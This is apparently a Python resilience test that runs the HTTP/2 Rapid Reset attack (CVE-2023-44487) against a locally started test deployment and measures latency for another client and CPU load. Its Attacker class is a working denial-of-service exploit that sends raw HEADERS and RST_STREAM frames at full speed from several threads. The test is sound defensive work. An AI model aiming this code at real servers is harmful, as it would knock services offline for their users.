"""HTTP/2 streams that are opened and reset at full speed (CVE-2023-44487), and what others notice of it."""

import contextlib
import socket
import ssl
import struct
import threading
import time
from collections.abc import Mapping
from pathlib import Path
from statistics import median, quantiles
from urllib.parse import urlsplit

import httpx

from ops.errors import Refusal
from ops.instance import Instance
from ops.parts import ALL
from ops.paths import ROOT
from ops.processes import cpu_s

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4  # RFC 9113, section 6
CANCEL = struct.pack("!I", 8)
AT_ONCE = 100
SECONDS, ATTACKERS, WORST_S = 20.0, 4, 2.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame of RFC 9113, section 4.1."""
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def asked(path: str, host: str) -> bytes:
    """GET as HPACK (RFC 7541) without a table that it would change: the same bytes for every stream."""
    literal = b"".join(bytes([index, len(text)]) + text.encode() for index, text in ((4, path), (1, host)))
    return b"\x82\x87" + literal  # :method GET and :scheme https of the static table


class Attacker(threading.Thread):
    """Opens and resets streams, over one connection after the other, until told to stop."""

    def __init__(self, url: str, ca: Path, path: str) -> None:
        super().__init__()
        self.over = threading.Event()
        self.opened = self.connections = 0
        there = urlsplit(url)
        self._where, self._block = (there.hostname or "", there.port or 443), asked(path, there.netloc)
        self._context = ssl.create_default_context(cafile=str(ca))
        self._context.set_alpn_protocols(["h2"])

    def run(self) -> None:
        """Attack."""
        while not self.over.is_set():
            with contextlib.suppress(OSError):
                self._connect()

    def _connect(self) -> None:
        with (
            socket.create_connection(self._where, 10) as plain,
            self._context.wrap_socket(plain, server_hostname=self._where[0]) as line,
        ):
            self.connections += 1
            line.sendall(PREFACE + frame(SETTINGS, 0, 0))
            stream = 1
            while not self.over.is_set():
                pairs = range(stream, stream + 2 * AT_ONCE, 2)
                opened = (frame(HEADERS, 5, n, self._block) + frame(RST_STREAM, 0, n, CANCEL) for n in pairs)
                line.sendall(b"".join(opened))
                stream += 2 * AT_ONCE
                self.opened += AT_ONCE


def ask_on(url: str, ca: Path, seconds: float) -> list[float]:
    """How long each answer took somebody else, who comes from another address."""
    took: list[float] = []
    door = httpx.HTTPTransport(verify=ssl.create_default_context(cafile=str(ca)), local_address="127.0.0.9")
    with httpx.Client(base_url=url, transport=door, timeout=30) as client:
        end = time.monotonic() + seconds
        while (began := time.monotonic()) < end:
            if (status := client.get("/account/login").status_code) != 200:
                raise Refusal(f"Somebody else was refused: {status}, after {len(took)} answers.")
            took.append(time.monotonic() - began)
    return took


def spread(took: list[float]) -> dict[str, float]:
    """In ms."""
    worst = {"p99_ms": quantiles(took, n=100)[98], "worst_ms": max(took)}
    return {name: round(value * 1000, 1) for name, value in {"p50_ms": median(took), **worst}.items()}


def run() -> Mapping[str, object]:
    """A calm time, then an attack. Raises Refusal when somebody else waits longer than WORST_S."""
    with Instance(ROOT / "var" / "test" / "streams", test=True, webs=2) as instance:
        instance.start(ALL, steps=True, seconds=180)
        url, ca = instance.env["HETRI_URL"], instance.var / "tls" / "ca.pem"
        calm = ask_on(url, ca, SECONDS / 2)
        before = {name: _cpu(instance, name) for name in ("nginx", "web", "web2")}
        attackers = [Attacker(url, ca, "/account/login") for _ in range(ATTACKERS)]
        for attacker in attackers:
            attacker.start()
        try:
            attacked = ask_on(url, ca, SECONDS)
        finally:
            for attacker in attackers:
                attacker.over.set()

        cores = {f"{name}_cores": round((_cpu(instance, name) - before[name]) / SECONDS, 2) for name in before}
        if max(attacked) > WORST_S:
            raise Refusal(f"Somebody else waited {max(attacked):.1f} s.")
        asked = {
            "streams": sum(one.opened for one in attackers),
            "connections": sum(one.connections for one in attackers),
        }
        return {"calm": spread(calm), "attacked": spread(attacked), **asked, **cores}


def _cpu(instance: Instance, name: str) -> float:
    """CPU seconds of that part and its children."""
    pid = instance.pid(name)
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    return sum(cpu_s(int(one)) for one in (pid, *children) if one)
